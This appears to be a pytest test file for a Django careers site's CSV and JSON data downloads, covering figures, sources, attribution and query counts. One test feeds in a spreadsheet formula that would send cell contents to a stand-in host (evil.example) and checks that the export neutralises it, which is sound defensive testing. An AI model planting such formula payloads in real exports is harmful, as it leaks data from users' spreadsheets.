"""/careers/<slug>/data.csv and data.json: the page's figures with their sources."""

import codecs
import csv
import datetime
import io
from decimal import Decimal

import pytest

from occupations.models import CareerPage, DataRelease, Occupation
from tests.factories import DataReleaseFactory, WageEstimateFactory, full_career

pytestmark = pytest.mark.django_db


def csv_rows(response):
    """The rows of a data.csv download, read as a program that knows UTF-8 reads
    them (its byte order mark dropped)."""
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_download_csv_lists_each_figure_with_its_source(client, career):
    response = client.get(f"/careers/{career.slug}/data.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f'filename="{career.slug}.csv"' in response["Content-Disposition"]
    # Marked UTF-8 (a byte order mark), or Excel read "2024–34" as "2024â€“34".
    assert response.content.startswith(codecs.BOM_UTF8 + b"section,")
    rows = csv_rows(response)
    figures = {(row["section"], row["measure"]): row for row in rows}
    median = figures[("wages", "annual median")]
    assert median["value"] == "85720"
    assert median["source"].startswith("BLS OEWS, May 2024. BLS OEWS credit.")
    assert figures[("wages", "hourly median")]["value"] == "41.21"
    growth = figures[("outlook 2024–34", "projected growth")]
    assert growth["value"] == "23.2"
    assert growth["source"].startswith("BLS Employment Projections, 2024–34.")
    band = figures[("outlook 2024–34", "growth compared with all occupations")]
    assert band["value"] == "much faster than average"
    assert all(row["source"] for row in rows)


def test_download_csv_top_coded_value_is_qualified(client, db):
    page = full_career(annual=("50440", "64060", "85720", "180000", "239200"))
    rows = csv_rows(client.get(f"/careers/{page.slug}/data.csv"))
    (top,) = [row for row in rows if row["measure"] == "annual 90th percentile"]
    assert (top["value"], top["qualifier"]) == ("239200", "or more")


def test_download_csv_text_a_spreadsheet_would_run_is_kept_as_text(client, db):
    page = full_career(growth="-2.0")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
    page.occupation.projections.update(typical_education=formula)
    rows = csv_rows(client.get(f"/careers/{page.slug}/data.csv"))
    figures = {row["measure"]: row for row in rows}
    assert figures["typical education needed for entry"]["value"] == f"'{formula}"
    # A figure stays a number, minus sign and all.
    assert figures["projected growth"]["value"] == "-2"


def test_download_json_carries_figures_and_attribution(client, career):
    response = client.get(f"/careers/{career.slug}/data.json")
    assert response.status_code == 200
    data = response.json()
    assert data["career"] == career.career_name
    assert data["onet_soc_code"] == career.occupation.code
    assert data["url"] == f"http://testserver/careers/{career.slug}/"
    median = [f for f in data["figures"] if f["measure"] == "annual median"]
    assert median[0]["value"] == 85720
    assert any("BLS OEWS credit." in line for line in data["attribution"])
    assert any("2024–34" in line for line in data["attribution"])


@pytest.mark.parametrize("suffix", ["data.csv", "data.json"])
def test_download_draft_or_unknown_page_is_404(client, career, suffix):
    CareerPage.objects.filter(pk=career.pk).update(status=CareerPage.Status.DRAFT)
    assert client.get(f"/careers/{career.slug}/{suffix}").status_code == 404
    assert client.get(f"/careers/no-such-career/{suffix}").status_code == 404


@pytest.mark.parametrize("size", [1, 25])
def test_download_query_count_is_constant(client, django_assert_num_queries, size):
    """The downloads give the newest of the occupation's wage estimates, picked by
    its release's date: a release read by a query of its own would cost one query
    per estimate, and the figures must be the newest release's at each size. Three
    queries: the page, its wages, its projections (not the lists the page shows)."""
    page = full_career(size=size)
    for year in range(2024 - size + 1, 2024):  # older releases, other figures
        WageEstimateFactory(
            occupation=page.occupation,
            release=DataReleaseFactory(
                name=f"May {year}", reference_date=datetime.date(year, 5, 1)
            ),
            annual_median=Decimal(40000 + year),
        )
    assert page.occupation.wage_estimates.count() == size
    downloads = {}
    for suffix in ("data.csv", "data.json"):
        with django_assert_num_queries(3):
            response = client.get(f"/careers/{page.slug}/{suffix}")
        assert response.status_code == 200
        downloads[suffix] = response
    rows = csv_rows(downloads["data.csv"])
    figures = downloads["data.json"].json()["figures"]
    assert [row["measure"] for row in rows] == [f["measure"] for f in figures]
    wages = [row for row in rows if row["section"] == "wages"]
    assert len(wages) == 10  # five percentiles, annual and hourly
    assert all(row["source"].startswith("BLS OEWS, May 2024.") for row in wages)
    values = {row["measure"]: row["value"] for row in rows}
    assert values["annual median"] == "85720"
    assert values["projected growth"] == "23.2"


def test_download_csv_hourly_wages_keep_their_cents(client, career):
    """A whole-dollar hourly wage read "14" where the page prints $14.00."""
    career.occupation.wage_estimates.update(hourly_pct10=Decimal("14"))
    rows = csv_rows(client.get(f"/careers/{career.slug}/data.csv"))
    values = {row["measure"]: row["value"] for row in rows}
    assert values["hourly 10th percentile"] == "14.00"
    assert values["annual median"] == "85720"


def test_download_names_each_figures_own_source_and_has_every_figure_shown(client, db):
    """The all-occupations growth was labelled as the BLS group's figure, and the
    education share and the period's openings the page shows were missing."""
    page = full_career(openings="10.3")
    page.occupation.projections.update(
        bls_group_code="29-1140", bls_group_title="Registered nurses"
    )
    onet = DataReleaseFactory(kind=DataRelease.Kind.ONET, name="O*NET 29.3")
    Occupation.objects.filter(pk=page.occupation_id).update(
        release=onet,
        education_level="Master's Degree",
        education_level_percent=Decimal("42.86"),
    )
    rows = csv_rows(client.get(f"/careers/{page.slug}/data.csv"))
    figures = {row["measure"]: row for row in rows}
    assert "for 29-1140 Registered nurses" in figures["projected growth"]["source"]
    average = figures["all occupations projected growth"]
    assert average["source"].startswith("BLS Employment Projections, 2024–34. ")
    assert "29-1140" not in average["source"]
    assert figures["openings over the 10 years"]["value"] == "103000"
    share = figures["respondents naming the most common education"]
    assert (share["value"], share["unit"]) == ("42.86", "percent")
    text = client.get(page.get_absolute_url()).content.decode()
    assert "103,000 projected over 10 years" in text
    assert "Master&#x27;s Degree (43% of respondents)" in text
